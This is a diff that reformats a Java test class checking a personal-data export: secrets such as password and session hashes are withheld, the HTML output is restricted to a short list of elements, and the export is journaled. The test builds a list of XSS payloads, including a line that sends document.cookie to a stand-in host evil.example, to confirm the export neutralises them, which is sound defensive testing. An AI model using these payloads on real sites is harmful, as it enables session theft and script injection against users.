@@ -30,14 +30,31 @@ class DisclosureTest {
 
     /// Every table in which rows of a person are, straight or through another; a new one needs a place in the export.
     private static final Set<String> TABLES = Set.of(
-            "person", "person_group", "person_identity", "session", "api_key", "collection_grant", "conversation", "turn");
+            "person",
+            "person_group",
+            "person_identity",
+            "session",
+            "api_key",
+            "collection_grant",
+            "conversation",
+            "turn");
 
     /// What is not handed out: secrets in the form of hashes, which are no information about the person, keys between
     /// tables, and the other kind of grant.
     private static final Set<String> WITHHELD = Set.of(
-            "person.password", "session.hash", "session.csrf", "session.id", "session.provider_session", "api_key.hash",
-            "collection_grant.collection", "collection_grant.group_name", "conversation.id", "turn.id",
-            "turn.conversation", "turn.ordinal", "turn.detail");
+            "person.password",
+            "session.hash",
+            "session.csrf",
+            "session.id",
+            "session.provider_session",
+            "api_key.hash",
+            "collection_grant.collection",
+            "collection_grant.group_name",
+            "conversation.id",
+            "turn.id",
+            "turn.conversation",
+            "turn.ordinal",
+            "turn.detail");
 
     private Archived archived;
     private Disclosure disclosure;
@@ -84,17 +101,28 @@ class DisclosureTest {
         }
         JsonNode told = new JsonMapper().readTree(json);
         assertThat(told.at("/grants/0/collection").asText()).isEqualTo("collection-canary");
-        assertThat(told.at("/journal")).as("what was done by, to and for the person").hasSize(4);
+        assertThat(told.at("/journal"))
+                .as("what was done by, to and for the person")
+                .hasSize(4);
         assertThat(told.at("/journal/0/actor").asBoolean()).isTrue();
         assertThat(json).doesNotContain("somebody-else", "hash-canary", "csrf-canary", "password-canary");
-        assertThat(archived.journal.newest(Optional.empty(), Optional.empty(), 1).getFirst().action())
+        assertThat(archived.journal
+                        .newest(Optional.empty(), Optional.empty(), 1)
+                        .getFirst()
+                        .action())
                 .isEqualTo("PERSON_EXPORTED");
     }
 
     @Test
     void quotedWordsComeOnlyAsFarAsTheyMayBeReadToday() {
         fill();
-        assertThat(disclosure.of(ANNA).conversations().getFirst().turns().getFirst().sources())
+        assertThat(disclosure
+                        .of(ANNA)
+                        .conversations()
+                        .getFirst()
+                        .turns()
+                        .getFirst()
+                        .sources())
                 .singleElement()
                 .satisfies(source -> assertThat(source.text()).isEmpty());
     }
@@ -107,24 +135,42 @@ class DisclosureTest {
             Disclosure.Everything everything = new Disclosure.Everything(
                     "2026-01-05T08:00:00Z",
                     new Disclosure.Account(
-                            payload, payload, payload, new TreeSet<>(Set.of(payload)), true, "2026-01-05T08:00:00Z", payload, payload),
+                            payload,
+                            payload,
+                            payload,
+                            new TreeSet<>(Set.of(payload)),
+                            true,
+                            "2026-01-05T08:00:00Z",
+                            payload,
+                            payload),
                     List.of(new Disclosure.OneSession(payload, "2026-01-05T08:00:00Z", "2026-01-05T08:00:00Z")),
-                    List.of(new Disclosure.OneKey(payload, payload, payload, "2026-01-05T08:00:00Z", "2026-01-05T08:00:00Z")),
+                    List.of(new Disclosure.OneKey(
+                            payload, payload, payload, "2026-01-05T08:00:00Z", "2026-01-05T08:00:00Z")),
                     List.of(new Disclosure.OneGrant(payload, payload)),
                     List.of(new Disclosure.OneConversation(
                             payload,
                             "2026-01-05T08:00:00Z",
                             "2026-01-05T08:00:00Z",
                             List.of(new Disclosure.OneTurn(
-                                    "2026-01-05T08:00:00Z", payload, payload, payload, payload + " reason", payload, 1,
+                                    "2026-01-05T08:00:00Z",
+                                    payload,
+                                    payload,
+                                    payload,
+                                    payload + " reason",
+                                    payload,
+                                    1,
                                     List.of(new Disclosure.OneSource(1, payload, payload, payload)))))),
                     List.of(new Disclosure.OneEntry("2026-01-05T08:00:00Z", true, payload, payload, payload)));
             Document page = Jsoup.parse(everything.html());
             for (Element element : page.getAllElements()) {
                 assertThat(element.normalName())
                         .as(payload)
-                        .isIn("#root", "html", "head", "meta", "title", "body", "h1", "h2", "h3", "h4", "p", "br", "ul", "li");
-                element.attributes().forEach(attribute -> assertThat(attribute.getKey()).as(payload).isIn("lang", "charset"));
+                        .isIn(
+                                "#root", "html", "head", "meta", "title", "body", "h1", "h2", "h3", "h4", "p", "br",
+                                "ul", "li");
+                element.attributes()
+                        .forEach(attribute ->
+                                assertThat(attribute.getKey()).as(payload).isIn("lang", "charset"));
             }
             String shown = page.body().wholeText();
             int times = shown.split(java.util.regex.Pattern.quote(payload.strip()), -1).length - 1;
@@ -136,14 +182,37 @@ class DisclosureTest {
         List<String> payloads = new java.util.ArrayList<>();
         for (String script : List.of("alert(1)", "fetch('//evil.example/'+document.cookie)")) {
             for (String form : List.of(
-                    "<script>%s</script>", "<ScRiPt>%s</sCrIpT>", "<script src=//evil.example></script>%s", "<img src=x onerror=%s>",
-                    "<svg onload=%s>", "<svg><script>%s</script></svg>", "<body onload=%s>", "<iframe src=\"javascript:%s\">",
-                    "<a href=\"javascript:%s\">x</a>", "\"><script>%s</script>", "'><script>%s</script>", "</title><script>%s</script>",
-                    "</li></ul><script>%s</script>", "<!--><script>%s</script>-->", "<![CDATA[<script>%s</script>]]>", "<math><mtext></p><script>%s",
-                    "<details open ontoggle=%s>", "<video><source onerror=%s>", "<input autofocus onfocus=%s>", "<marquee onstart=%s>",
-                    "<object data=\"javascript:%s\">", "<embed src=\"javascript:%s\">", "<form action=\"javascript:%s\"><button>", "<base href=//evil.example/>%s",
-                    "<meta http-equiv=refresh content=\"0;url=javascript:%s\">", "<link rel=stylesheet href=//evil.example>%s", "<style>@import'//evil.example';</style>%s",
-                    "&lt;script&gt;%s&lt;/script&gt;", "&#60;script&#62;%s&#60;/script&#62;", "<template><script>%s</script></template>", "<xmp><script>%s</script>")) {
+                    "<script>%s</script>",
+                    "<ScRiPt>%s</sCrIpT>",
+                    "<script src=//evil.example></script>%s",
+                    "<img src=x onerror=%s>",
+                    "<svg onload=%s>",
+                    "<svg><script>%s</script></svg>",
+                    "<body onload=%s>",
+                    "<iframe src=\"javascript:%s\">",
+                    "<a href=\"javascript:%s\">x</a>",
+                    "\"><script>%s</script>",
+                    "'><script>%s</script>",
+                    "</title><script>%s</script>",
+                    "</li></ul><script>%s</script>",
+                    "<!--><script>%s</script>-->",
+                    "<![CDATA[<script>%s</script>]]>",
+                    "<math><mtext></p><script>%s",
+                    "<details open ontoggle=%s>",
+                    "<video><source onerror=%s>",
+                    "<input autofocus onfocus=%s>",
+                    "<marquee onstart=%s>",
+                    "<object data=\"javascript:%s\">",
+                    "<embed src=\"javascript:%s\">",
+                    "<form action=\"javascript:%s\"><button>",
+                    "<base href=//evil.example/>%s",
+                    "<meta http-equiv=refresh content=\"0;url=javascript:%s\">",
+                    "<link rel=stylesheet href=//evil.example>%s",
+                    "<style>@import'//evil.example';</style>%s",
+                    "&lt;script&gt;%s&lt;/script&gt;",
+                    "&#60;script&#62;%s&#60;/script&#62;",
+                    "<template><script>%s</script></template>",
+                    "<xmp><script>%s</script>")) {
                 payloads.add(form.formatted(script));
             }
         }
@@ -152,14 +221,19 @@ class DisclosureTest {
 
     /// One row of everything, each value its own.
     private void fill() {
-        archived.sql("INSERT INTO person VALUES ('person-anna', 'anna', 'reader', 'password-canary', 1, 1000000000001)");
+        archived.sql(
+                "INSERT INTO person VALUES ('person-anna', 'anna', 'reader', 'password-canary', 1, 1000000000001)");
         archived.sql("INSERT INTO person_group VALUES ('person-anna', 'group-canary')");
         archived.sql("INSERT INTO person_identity VALUES ('provider-canary', 'subject-canary', 'person-anna')");
-        archived.sql("INSERT INTO session VALUES ('hash-canary', 'session-canary', 'person-anna', 'csrf-canary', 'browser-canary', 'sid-canary', 1000000000002, 1000000000003)");
-        archived.sql("INSERT INTO api_key VALUES ('key-canary', 'hash-canary', 'person-anna', 'key-name-canary', 1000000000004, 'read,manage', 1000000000005)");
-        archived.sql("INSERT INTO collection (id, name, access_right, contact, sample, created) VALUES ('c', 'collection-canary', 'r', '', 0, 1)");
+        archived.sql(
+                "INSERT INTO session VALUES ('hash-canary', 'session-canary', 'person-anna', 'csrf-canary', 'browser-canary', 'sid-canary', 1000000000002, 1000000000003)");
+        archived.sql(
+                "INSERT INTO api_key VALUES ('key-canary', 'hash-canary', 'person-anna', 'key-name-canary', 1000000000004, 'read,manage', 1000000000005)");
+        archived.sql(
+                "INSERT INTO collection (id, name, access_right, contact, sample, created) VALUES ('c', 'collection-canary', 'r', '', 0, 1)");
         archived.sql("INSERT INTO collection_grant VALUES ('c', 'contribute', NULL, 'person-anna')");
-        archived.sql("INSERT INTO conversation VALUES ('conversation-canary', 'person-anna', 'title-canary', 1000000000006, 1000000000007)");
+        archived.sql(
+                "INSERT INTO conversation VALUES ('conversation-canary', 'person-anna', 'title-canary', 1000000000006, 1000000000007)");
         archived.sql(
                 "INSERT INTO turn VALUES ('turn-canary', 'conversation-canary', 1, 'question-canary', 'answer-canary', 'DECLINED', 'reason-canary', ?, 'model-canary', 1000000000008, 4711)",
                 RetentionTest.detail("unreadable"));
@@ -182,13 +256,14 @@ class DisclosureTest {
 
     private List<Map<String, Object>> rows(String table) {
         String mine = table.equals("person") ? " WHERE id = 'person-anna'" : "";
-        List<Map<String, Object>> rows = archived.database.read(
-                handle -> handle.createQuery("SELECT * FROM " + table + mine).mapToMap().list());
+        List<Map<String, Object>> rows = archived.database.read(handle ->
+                handle.createQuery("SELECT * FROM " + table + mine).mapToMap().list());
         assertThat(rows).as(table).isNotEmpty();
         return rows;
     }
 
     private List<String> strings(String sql) {
-        return archived.database.read(handle -> handle.createQuery(sql).mapTo(String.class).list());
+        return archived.database.read(
+                handle -> handle.createQuery(sql).mapTo(String.class).list());
     }
 }
